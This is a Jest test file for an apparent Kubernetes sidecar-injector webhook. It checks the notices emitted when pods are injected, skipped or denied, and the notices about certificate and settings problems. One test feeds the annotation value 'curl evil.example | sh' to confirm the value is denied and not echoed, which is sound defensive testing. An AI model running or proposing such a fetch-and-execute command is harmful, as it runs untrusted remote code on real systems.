import { describe, expect, test } from '@jest/globals';
import { review } from '../../../src/admission/handler.ts';
import { createInjector } from '../../../src/injection/injector.ts';
import type { JsonObject } from '../../../src/json/json.ts';
import { certificateNotice, expiryNotice, refusalNotice } from '../../../src/runtime/own-notices.ts';
import { noticeOf } from '../../../src/runtime/review-notice.ts';
import { snapshotOf } from '../../support/builders/snapshots.ts';

const injector = createInjector(snapshotOf());
const settings = injector.snapshot.hash.slice(0, 8);

const controller = { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-5d8f', uid: 'u', controller: true };

function noticeAbout(metadata: JsonObject = {}, spec: JsonObject = {}, more: object = {}, by = injector) {
  const object = {
    metadata: {
      generateName: 'web-5d8f-',
      ownerReferences: [controller],
      ...metadata,
      labels: { 'pod-template-hash': '5d8f', ...(metadata['labels'] as JsonObject | undefined) },
    },
    spec: { containers: [{ name: 'app', image: 'registry.example/app:1' }], ...spec },
  };
  const request = {
    uid: '1',
    operation: 'CREATE',
    namespace: 'shop',
    kind: { group: '', version: 'v1', kind: 'Pod' },
    object,
    ...more,
  };
  const reviewed = review(JSON.stringify({ apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request }), by);
  if (reviewed.status !== 200) throw new Error(reviewed.problem);
  return noticeOf(reviewed);
}

describe('a review', () => {
  test('that injects is told once for a revision of the owner, settings and version', () => {
    const notice = noticeAbout();
    expect(notice).toMatchObject({
      owner: { kind: 'Deployment', name: 'web', namespace: 'shop' },
      type: 'Normal',
      reason: 'Injected',
      note: `pods of revision 5d8f get a sidecar: settings ${settings}, version 0.1.0`,
    });
    expect(noticeAbout()?.identity).toBe(notice?.identity);
    expect(noticeAbout({ labels: { 'pod-template-hash': '77' } })?.identity).not.toBe(notice?.identity);
    const other = createInjector(snapshotOf({ proxy: { logLevel: 'debug' } }));
    expect(noticeAbout({}, {}, {}, other)?.identity).not.toBe(notice?.identity);
  });

  test('that leaves out what was asked for is told with its reason', () => {
    expect(noticeAbout({}, { hostNetwork: true })).toMatchObject({
      type: 'Warning',
      reason: 'InjectionSkipped',
      note: 'pods of revision 5d8f get no sidecar: The pod uses the node’s network; capture would change the node (HostNetwork)',
    });
  });

  test('that denies is told without anything of the pod, since anybody may send one', () => {
    const denied = noticeAbout({ annotations: { 'sidecar.istio.io/proxyCPU': 'curl evil.example | sh' } });
    expect(denied).toMatchObject({ type: 'Warning', reason: 'InjectionDenied' });
    expect(denied?.note).toMatch(/^pods of revision 5d8f are denied: .* \(InvalidAnnotation\); the particulars are in/);
    expect(denied?.note).not.toContain('evil');
  });

  test.each<[string, ReturnType<typeof noticeAbout>]>([
    ['of a pod that refuses', noticeAbout({ labels: { 'sidecar.istio.io/inject': 'false' } })],
    ['that is a dry run', noticeAbout({}, {}, { dryRun: true })],
    ['of another operation', noticeAbout({}, {}, { operation: 'UPDATE' })],
    ['of a namespace without a name', noticeAbout({}, {}, { namespace: '' })],
    ['of a pod without a name', noticeAbout({ generateName: '', ownerReferences: [] })],
    ['of names that no object has', noticeAbout({ labels: { 'pod-template-hash': 'x'.repeat(1_024) } })],
  ])('%s is not told', (_what, notice) => {
    expect(notice).toBeUndefined();
  });
});

const now = new Date('2026-06-01T12:00:00Z');

describe('our own Deployment', () => {
  const own = { owner: { kind: 'Deployment', namespace: 'sidecar-injector-system', name: 'sidecar-injector' } };

  test('is told that its bundle was another one, and of what somebody has to mend', () => {
    const drift = { code: 'bundle-patched', detail: "'a' had another bundle" } as const;
    expect(certificateNotice(drift, now)).toMatchObject({ ...own, type: 'Normal', reason: 'CABundleWritten' });
    const missing = { code: 'webhook-missing', detail: 'it does not exist' } as const;
    expect(certificateNotice(missing, now)).toMatchObject({ ...own, type: 'Warning', note: 'it does not exist' });
    expect(certificateNotice({ code: 'leaf-issued', detail: '' }, now)).toBeUndefined();
    expect(certificateNotice({ code: 'api-unreachable', detail: '' }, now)).toBeUndefined();
  });

  test('is told of a certificate that ends within a day, once a day', () => {
    const inHours = (hours: number) => new Date(now.getTime() + hours * 3_600_000);
    expect(expiryNotice(inHours(25), now)).toBeUndefined();
    expect(expiryNotice(inHours(23), now)).toMatchObject({ ...own, type: 'Warning', reason: 'CertificateExpires' });
    expect(expiryNotice(inHours(23), now)?.identity).toBe(expiryNotice(inHours(23), inHours(1))?.identity);
    expect(expiryNotice(inHours(23), now)?.identity).not.toBe(expiryNotice(inHours(23), inHours(13))?.identity);
  });

  test('is told of files that are refused', () => {
    expect(refusalNotice([], now)).toBeUndefined();
    expect(refusalNotice(['a: b', 'c: d'], now)).toMatchObject({
      ...own,
      reason: 'SettingsRefused',
      note: 'settings or sidecars are refused, the last good ones stay: a: b; c: d',
    });
  });
});
